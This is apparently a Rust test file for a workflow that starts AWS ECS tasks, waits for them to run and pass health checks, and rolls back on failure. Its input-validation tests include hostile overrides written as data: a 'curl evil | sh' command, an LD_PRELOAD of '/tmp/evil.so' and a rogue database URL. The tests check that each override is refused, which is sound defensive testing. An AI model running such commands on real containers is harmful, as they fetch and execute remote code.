//! The `ecs_start` state machine driven with scripted port outcomes: the phases the emulator
//! cannot produce (PROVISIONING/PENDING, `initial` health, never healthy, STOPPED first).

use std::collections::BTreeMap;

use super::config::ServiceMapping;
use super::*;
use crate::contract::Call;
use crate::ports::Ports;

fn workflow() -> EcsStart {
    let mapping = ServiceMapping {
        cluster: "apps".into(),
        task_definition: "auth:3".into(),
        target_group: "arn:aws:elasticloadbalancing:us-east-1:1:targetgroup/auth/1".into(),
        container_name: "auth".into(),
        container_port: 8080,
        subnets: vec!["subnet-1".into()],
        security_groups: vec!["sg-1".into()],
        assign_public_ip: false,
        allow_environment: vec!["MODE".into()],
        allow_command: true,
        allow_revisions: vec![9],
        allow_tags: vec!["team".into()],
        max_count: 2,
        stop_any_task: false,
    };
    let ports = Ports::memory();
    EcsStart(EcsParts {
        services: BTreeMap::from([("auth".to_owned(), mapping)]),
        ecs: ports.ecs,
        targets: ports.targets,
    })
}

fn event(detail: Value) -> Value {
    json!({"id": "ev-1", "source": "custom.app", "detail-type": "Start ECS Task", "detail": detail})
}

fn params() -> Value {
    json!({"poll_interval": "5s", "running_timeout": "20s", "healthy_timeout": "15s"})
}

fn status(last: &str) -> Value {
    json!({"task_arn": "arn:aws:ecs:us-east-1:1:task/apps/abc123", "last_status": last, "stopped_reason": null,
        "stop_code": null, "container_reasons": [], "private_ip": if last == "RUNNING" { json!("10.0.1.7") } else { Value::Null }})
}

fn health(state: &str) -> Value {
    json!({"state": state, "reason": if state == "healthy" { Value::Null } else { json!("Elb.RegistrationInProgress") }, "description": null})
}

type Start = (State, Decision<Step>);

/// Runs the workflow, answering each step but the sleeps from `answer`; returns the step
/// names taken, the end, and the final state.
fn drive(
    w: &EcsStart,
    (mut state, mut next): Start,
    mut answer: impl FnMut(&Act<Step>) -> Result<Value, StepError>,
) -> (Vec<String>, Decision<Step>, State) {
    let mut steps = Vec::new();
    loop {
        let Next::Run(act) = next else {
            return (steps, next, state);
        };
        steps.push(act.name.clone());
        let outcome = match &act.call {
            Call::Sleep { duration, .. } => {
                assert_eq!(*duration, Duration::from_secs(5));
                Ok(json!({}))
            }
            _ => answer(&act),
        };
        next = w.advance(&mut state, act.step, outcome);
        assert!(steps.len() < 100, "runaway: {steps:?}");
    }
}

fn names(undo: Vec<Act<Step>>) -> Vec<String> {
    undo.into_iter().map(|a| a.name).collect()
}

#[test]
fn slow_start_then_initial_then_healthy_completes_with_the_result() {
    let w = workflow();
    let start = w
        .start(&event(json!({"service": "auth"})), &params())
        .unwrap();
    let mut running = ["PROVISIONING", "PENDING", "RUNNING"].into_iter();
    let mut healthy = ["initial", "initial", "healthy"].into_iter();
    let (steps, end, _) = drive(&w, start, |act| match &act.step {
        Step::RunTask(request) => {
            assert_eq!(request.cluster, "apps");
            assert_eq!(request.subnets, ["subnet-1"]);
            assert!(
                request
                    .tags
                    .contains(&("tugboat:service".into(), "auth".into()))
            );
            assert!(request.started_by.starts_with("tugboat/auth/ev-1"));
            Ok(json!({"task_arn": "arn:aws:ecs:us-east-1:1:task/apps/abc123"}))
        }
        Step::WaitRunning { .. } => Ok(status(running.next().unwrap())),
        Step::RegisterTarget(t) => {
            assert_eq!((t.ip.as_str(), t.port), ("10.0.1.7", 8080));
            Ok(json!({}))
        }
        Step::WaitHealthy(_) => Ok(health(healthy.next().unwrap())),
        Step::Notify => {
            assert!(matches!(
                act.call,
                Call::Publish {
                    topic: Topic::Success,
                    ..
                }
            ));
            Ok(json!({"message_id": "m"}))
        }
        other => panic!("unexpected {other:?}"),
    });
    assert_eq!(
        steps,
        [
            "run-task",
            "wait-running#1",
            "sleep-running#1",
            "wait-running#2",
            "sleep-running#2",
            "wait-running#3",
            "register-target",
            "wait-healthy#1",
            "sleep-healthy#1",
            "wait-healthy#2",
            "sleep-healthy#2",
            "wait-healthy#3",
            "notify"
        ]
    );
    let Next::Complete(result) = end else {
        panic!("{end:?}")
    };
    assert_eq!(result["task_id"], "abc123");
    assert_eq!(result["ip"], "10.0.1.7");
    assert_eq!(result["port"], 8080);
    assert_eq!(result["health"], "healthy");
    assert_eq!(result["polls_until_running"], 3);
}

#[test]
fn a_task_stopped_before_running_fails_fast_with_its_reasons() {
    let w = workflow();
    let start = w
        .start(&event(json!({"service": "auth"})), &params())
        .unwrap();
    let (steps, end, state) = drive(&w, start, |act| match &act.step {
        Step::RunTask(_) => Ok(json!({"task_arn": "arn:aws:ecs:us-east-1:1:task/apps/abc123"})),
        Step::WaitRunning { .. } => {
            let mut s = status("STOPPED");
            s["stopped_reason"] = json!("Essential container in task exited");
            s["stop_code"] = json!("EssentialContainerExited");
            s["container_reasons"] = json!(["auth: CannotPullContainerError: not found (exit 1)"]);
            Ok(s)
        }
        other => panic!("unexpected {other:?}"),
    });
    assert_eq!(steps, ["run-task", "wait-running#1"]);
    let Next::Fail(reason) = end else { panic!() };
    assert!(
        reason.contains("Essential container in task exited")
            && reason.contains("CannotPullContainerError"),
        "{reason}"
    );
    // Compensation stops the task and reports; nothing was registered.
    let undo = names(w.compensation(&state));
    assert_eq!(undo, ["stop-task", "notify-error"]);
}

#[test]
fn never_healthy_times_out_and_compensation_deregisters_then_stops() {
    let w = workflow();
    let start = w
        .start(&event(json!({"service": "auth"})), &params())
        .unwrap();
    let (steps, end, state) = drive(&w, start, |act| match &act.step {
        Step::RunTask(_) => Ok(json!({"task_arn": "arn:aws:ecs:us-east-1:1:task/apps/abc123"})),
        Step::WaitRunning { .. } => Ok(status("RUNNING")),
        Step::RegisterTarget(_) => Ok(json!({})),
        Step::WaitHealthy(_) => Ok(health("unhealthy")),
        other => panic!("unexpected {other:?}"),
    });
    // 15 s ÷ 5 s: three health polls.
    assert_eq!(
        steps
            .iter()
            .filter(|s| s.starts_with("wait-healthy"))
            .count(),
        3
    );
    let Next::Fail(reason) = end else { panic!() };
    assert!(
        reason.contains("did not become healthy within 15s (last state unhealthy"),
        "{reason}"
    );
    let undo = w.compensation(&state);
    let undone: Vec<&str> = undo.iter().map(|a| a.name.as_str()).collect();
    assert_eq!(undone, ["deregister-target", "stop-task", "notify-error"]);
    assert!(
        matches!(&undo[1].step, Step::StopTask { task, reason, .. } if task.ends_with("abc123") && reason.contains("healthy"))
    );
}

#[test]
fn never_running_times_out() {
    let w = workflow();
    let start = w
        .start(&event(json!({"service": "auth"})), &params())
        .unwrap();
    let (steps, end, _) = drive(&w, start, |act| match &act.step {
        Step::RunTask(_) => Ok(json!({"task_arn": "t"})),
        Step::WaitRunning { .. } => Ok(status("PENDING")),
        other => panic!("unexpected {other:?}"),
    });
    assert_eq!(
        steps
            .iter()
            .filter(|s| s.starts_with("wait-running"))
            .count(),
        4
    );
    assert!(
        matches!(end, Next::Fail(ref r) if r.contains("did not reach RUNNING within 20s (last status PENDING)"))
    );
}

#[test]
fn a_permanent_port_error_fails_and_a_failed_notification_does_not_stop_a_healthy_task() {
    let w = workflow();
    let start = w
        .start(&event(json!({"service": "auth"})), &params())
        .unwrap();
    let (_, end, state) = drive(&w, start, |act| match &act.step {
        Step::RunTask(_) => Ok(json!({"task_arn": "t"})),
        Step::WaitRunning { .. } => Ok(status("RUNNING")),
        Step::RegisterTarget(_) => Err(StepError::permanent(
            "RegisterTargets: TargetGroupNotFound: no such group",
        )),
        other => panic!("unexpected {other:?}"),
    });
    assert!(matches!(end, Next::Fail(ref r) if r.contains("TargetGroupNotFound")));
    let undone = names(w.compensation(&state));
    assert_eq!(
        undone,
        ["stop-task", "notify-error"],
        "not registered, so not deregistered"
    );

    let start = w
        .start(&event(json!({"service": "auth"})), &params())
        .unwrap();
    let (_, end, _) = drive(&w, start, |act| match &act.step {
        Step::RunTask(_) => Ok(json!({"task_arn": "t"})),
        Step::WaitRunning { .. } => Ok(status("RUNNING")),
        Step::RegisterTarget(_) => Ok(json!({})),
        Step::WaitHealthy(_) => Ok(health("healthy")),
        Step::Notify => Err(StepError::permanent("NotFound")),
        other => panic!("unexpected {other:?}"),
    });
    assert!(matches!(end, Next::Complete(ref r) if r["notify_error"] == "NotFound"));
}

#[test]
fn overrides_are_applied_and_bad_input_is_refused_with_reasons() {
    let w = workflow();
    let (_, next) = w
        .start(
            &event(json!({"service": "auth", "environment": {"MODE": "blue"}, "command": ["serve", "--fast"], "revision": 9, "tags": {"team": "id"}})),
            &json!({}),
        )
        .unwrap();
    let Next::Run(Act {
        step: Step::RunTask(request),
        ..
    }) = next
    else {
        panic!()
    };
    assert_eq!(request.task_definition, "auth:9");
    assert_eq!(
        request.environment,
        [("MODE".to_owned(), "blue".to_owned())]
    );
    assert_eq!(
        request.command.as_deref(),
        Some(&["serve".to_owned(), "--fast".to_owned()][..])
    );
    assert!(request.tags.contains(&("team".into(), "id".into())));

    for (detail, params, part) in [
        (
            json!({"service": "billing"}),
            json!({}),
            "unknown service \"billing\"; configured services: auth",
        ),
        (json!({}), json!({}), "detail.service"),
        (json!({"service": 5}), json!({}), "detail.service"),
        (
            json!({"service": "auth", "count": 11}),
            json!({}),
            "detail.count must be 1 to 10",
        ),
        (
            json!({"service": "auth", "environment": {"A": 1}}),
            json!({}),
            "detail.environment.A must be a string",
        ),
        (
            json!({"service": "auth", "command": "serve"}),
            json!({}),
            "detail.command must be a list",
        ),
        (
            json!({"service": "auth", "revision": -1}),
            json!({}),
            "detail.revision",
        ),
        // What the mapping does not allow by name (it allows MODE, a command, revision 9, the
        // tag team and two tasks).
        (
            json!({"service": "auth", "environment": {"MODE": "x", "LD_PRELOAD": "/tmp/evil.so"}}),
            json!({}),
            "detail.environment.LD_PRELOAD: environment key not allowed (services.auth.allow_environment",
        ),
        (
            json!({"service": "auth", "revision": 2}),
            json!({}),
            "detail.revision 2: revision not allowed (services.auth.allow_revisions",
        ),
        (
            json!({"service": "auth", "tags": {"owner": "x"}}),
            json!({}),
            "detail.tags.owner: tag key not allowed",
        ),
        (
            json!({"service": "auth", "tags": {"tugboat:service": "billing"}}),
            json!({}),
            "detail.tags.tugboat:service: tag key not allowed",
        ),
        (
            json!({"service": "auth", "count": 3}),
            json!({}),
            "detail.count 3: more tasks than one event may start (services.auth.max_count = 2)",
        ),
        (
            json!({"service": "auth"}),
            json!({"poll_interval": "often"}),
            "params.poll_interval",
        ),
    ] {
        let e = w
            .start(&event(detail.clone()), &params)
            .expect_err(&detail.to_string());
        assert!(e.contains(part), "{detail}: {e}");
    }
    assert_eq!(
        with_revision("arn:aws:ecs:us-east-1:1:task-definition/auth:3", 4),
        "arn:aws:ecs:us-east-1:1:task-definition/auth:4"
    );
    assert_eq!(with_revision("auth", 2), "auth:2");
}

#[test]
fn count_starts_each_task_in_turn_and_compensation_covers_them_all() {
    let w = workflow();
    let start = w
        .start(&event(json!({"service": "auth", "count": 2})), &params())
        .unwrap();
    let mut runs = 0;
    let (steps, end) = {
        let (steps, end, _) = drive(&w, start, |act| match &act.step {
            Step::RunTask(_) => {
                runs += 1;
                Ok(json!({"task_arn": format!("arn:aws:ecs:us-east-1:1:task/apps/t{runs}")}))
            }
            Step::WaitRunning { task, .. } => {
                let mut st = status("RUNNING");
                st["task_arn"] = json!(task);
                st["private_ip"] = json!(if task.ends_with("t1") {
                    "10.0.0.1"
                } else {
                    "10.0.0.2"
                });
                Ok(st)
            }
            Step::RegisterTarget(_) => Ok(json!({})),
            Step::WaitHealthy(_) => Ok(health("healthy")),
            Step::Notify => Ok(json!({})),
            other => panic!("unexpected {other:?}"),
        });
        (steps, end)
    };
    assert_eq!(
        steps,
        [
            "run-task",
            "wait-running#1",
            "register-target",
            "wait-healthy#1",
            "run-task@2",
            "wait-running@2#1",
            "register-target@2",
            "wait-healthy@2#1",
            "notify"
        ]
    );
    let Next::Complete(result) = end else {
        panic!("{end:?}")
    };
    let tasks = result["tasks"].as_array().unwrap();
    assert_eq!(tasks.len(), 2);
    assert_eq!(tasks[1]["ip"], "10.0.0.2");
    assert_eq!(result["ip"], "10.0.0.1");

    // The second task never becomes healthy: both are taken down.
    let start = w
        .start(&event(json!({"service": "auth", "count": 2})), &params())
        .unwrap();
    let mut runs = 0;
    let (_, end, state) = drive(&w, start, |act| match &act.step {
        Step::RunTask(_) => {
            runs += 1;
            Ok(json!({"task_arn": format!("t{runs}")}))
        }
        Step::WaitRunning { .. } => Ok(status("RUNNING")),
        Step::RegisterTarget(_) => Ok(json!({})),
        Step::WaitHealthy(_) => Ok(health(if runs == 1 { "healthy" } else { "unhealthy" })),
        other => panic!("unexpected {other:?}"),
    });
    assert!(matches!(end, Next::Fail(_)));
    let undo = names(w.compensation(&state));
    assert_eq!(
        undo,
        [
            "deregister-target@1",
            "stop-task@1",
            "deregister-target",
            "stop-task",
            "notify-error"
        ]
    );
}

#[test]
fn a_mapping_that_allows_nothing_refuses_every_override() {
    let mut w = workflow();
    let m = w.0.services.get_mut("auth").unwrap();
    m.allow_environment.clear();
    m.allow_command = false;
    m.allow_revisions.clear();
    m.allow_tags.clear();
    m.max_count = 1;
    assert!(w.start(&event(json!({"service": "auth"})), &params()).is_ok());
    for (detail, part) in [
        (json!({"environment": {"DB_URL": "postgres://evil"}}), "environment key not allowed"),
        (json!({"command": ["sh", "-c", "curl evil | sh"]}), "may not replace the container's command (services.auth.allow_command is false)"),
        (json!({"revision": 1}), "revision not allowed"),
        (json!({"tags": {"team": "x"}}), "tag key not allowed"),
        (json!({"count": 2}), "services.auth.max_count = 1"),
    ] {
        let mut d = detail.clone();
        d["service"] = json!("auth");
        let e = w.start(&event(d), &params()).expect_err(&detail.to_string());
        assert!(e.contains(part), "{detail}: {e}");
    }
}
